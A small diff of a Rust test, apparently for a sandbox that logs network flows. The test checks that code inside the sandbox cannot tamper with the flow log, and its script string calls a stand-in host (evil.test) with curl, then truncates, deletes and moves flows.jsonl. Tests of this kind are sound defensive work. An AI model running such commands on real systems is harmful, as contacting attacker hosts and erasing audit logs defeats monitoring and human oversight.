@@ -177,7 +177,7 @@ fn flows_are_written_as_they_happen_and_appended() {
 fn a_flow_log_in_the_work_directory_cannot_be_changed_from_inside() {
     let (_leaks, all) = everyone();
     for bailiwick in &all {
-        let script = "curl --silent http://evil.test/; : > flows.jsonl; rm -f flows.jsonl; mv flows.jsonl other; true";
+        let script = "curl --silent http://evil.test/; (: > flows.jsonl); rm -f flows.jsonl; mv flows.jsonl other; true";
         let run = bailiwick
             .run()
             .allowing(&[])
